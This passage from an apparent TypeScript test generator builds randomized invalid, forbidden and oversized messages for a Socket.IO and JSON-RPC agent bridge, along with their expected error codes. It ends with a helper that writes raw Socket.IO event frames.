          // Not a method the bridge runs: the contract's methods are the other client types.
          c.jsonrpc = { id, errorCodes: [-32601, -32602] };
          break;
        case "params_array":
        case "params_string":
        case "params_number":
          payload.method = rng.pick(["ping", "create_thread", "user_message", "validate_content"]);
          payload.params = variant === "params_array" ? [1, 2, { content: "x" }] : variant === "params_string" ? "content" : 42;
          c.jsonrpc = { id, errorCodes: [-32602] };
          break;
        case "bad_params":
          payload.method = rng.pick(["user_message", "stop_agent", "get_thread_history", "subscribe_quality_alerts"]);
          payload.params = { content: 5, run_id: 5, thread_id: 5, action: "maybe" };
          c.jsonrpc = { id, errorCodes: [-32602] };
          break;
        case "forbidden":
          if (world.foreignRunIds.length) {
            payload.method = rng.pick(["stop_agent", "agent_status_request"]);
            payload.params = { run_id: rng.pick(world.foreignRunIds) };
            c.jsonrpc = { id, errorCodes: [-32000], serverErrorMessage: "FORBIDDEN" };
          } else {
            payload.method = "broadcast";
            payload.params = { content: "x" };
            c.jsonrpc = { id, errorCodes: [-32000], serverErrorMessage: "FORBIDDEN" };
          }
          break;
        default:
          payload.method = rng.pick(["ping", "heartbeat", "create_thread", "validate_content", "get_quality_metrics", "chat"]);
          payload.params = validFor(rng, payload.method as string, world)!.payload;
          c.jsonrpc = { id, errorCodes: [] };
      }
      set({ type: "jsonrpc_request", payload }, base);
      if (c.expect.kind !== "ok") delete c.jsonrpc;
      break;
    }
    case "no_ack": {
      // Without an ack callback an error comes back as an error_message event; these are all errors.
      const env = rng.pick<() => [unknown[], ContractErrorCode | null]>([
        () => [[{ type: rng.pick(SERVER_ONLY) }], "SERVER_ONLY_TYPE"],
        () => [[{ type: `nope_${rng.string(5)}` }], "UNKNOWN_MESSAGE_TYPE"],
        () => [[{ payload: {} }], "INVALID_MESSAGE"],
        () => [["just a string"], "INVALID_MESSAGE"],
        () => [[42], "INVALID_MESSAGE"],
        () => [[null], "INVALID_MESSAGE"],
        () => [[{ type: "ping", run_id: `run_${rng.string(10)}` }], "NOT_FOUND"],
        () => [[{ type: "broadcast", payload: { content: "x" } }], "FORBIDDEN"],
        () => [[{ type: "ping", payload: { pad: "x".repeat(limit + 10) } }], "PAYLOAD_TOO_LARGE"],
        () => [[{ type: "ping" }, "extra", 7], null],
      ])();
      c.args = env[0];
      c.ack = false;
      c.expect = env[1] === null ? ok("ping") : err(env[1]);
      break;
    }
    case "repeat_message_id": {
      const earlier = world.withMessageId.length ? rng.pick(world.withMessageId) : null;
      if (!earlier) {
        set({ type: "ping", message_id: freshMessageId(rng) }, ok("ping"));
        break;
      }
      const first = earlier.args[0] as Record<string, unknown>;
      // A different message under the same id: the first ack comes back, nothing is routed again.
      set(
        {
          type: rng.pick(["ping", "user_message", "agent_completed", "nope"]),
          payload: { content: "again" },
          message_id: first.message_id,
        },
        ANY,
      );
      c.repeats = earlier.n;
      break;
    }
    default: {
      // invalid_payload: a known type with a payload its schema refuses.
      const variant = rng.pick<[string, Record<string, unknown>]>([
        ["user_message", {}],
        ["user_message", { content: "" }],
        ["chat", { content: 5 }],
        ["user_message", { content: "a".repeat(32769) }],
        ["start_agent", { content: "hi", agent_name: 3 }],
        ["stop_agent", {}],
        ["agent_status_request", { run_id: 1 }],
        ["get_thread_history", {}],
        ["get_thread_history", { thread_id: "x", limit: 0 }],
        ["get_thread_history", { thread_id: "x", limit: 1.5 }],
        ["subscribe_quality_alerts", { action: "maybe" }],
        ["generate_quality_report", { report_type: "long" }],
        ["validate_content", { content: 1 }],
        ["error_message", { error_message: "x" }],
        ["create_thread", { title: "t".repeat(201) }],
        ["get_quality_metrics", { period_hours: -1 }],
        ["user_message", { content: "hi", simulate: { delay_ms: 60001 } }],
        ["user_message", { content: "hi", simulate: "yes" }],
        ["user_message", { content: "hi", simulate: { drop_event: "thread_created" } }],
        ["user_typing", { thread_id: 12 }],
      ]);
      set({ type: variant[0], payload: variant[1] }, err("INVALID_MESSAGE"));
    }
  }
  return c;
}

/** Registers an ack callback on a Socket.IO client socket and writes a hand-built EVENT frame carrying `json`. */
export function emitRawJson(socket: Socket, ackId: number, json: string, onAck: (ack: unknown) => void): void {
  const internals = socket as unknown as {
    acks: Record<number, (...args: unknown[]) => void>;
    io: { engine: { write(msg: string): void } };
  };
  internals.acks[ackId] = (ack: unknown) => onAck(ack);
  // Socket.IO v5 protocol: EVENT ("2"), default namespace (omitted), ack id, JSON array of [event, ...args].
  internals.io.engine.write(`2${ackId}["message",${json}]`);
}
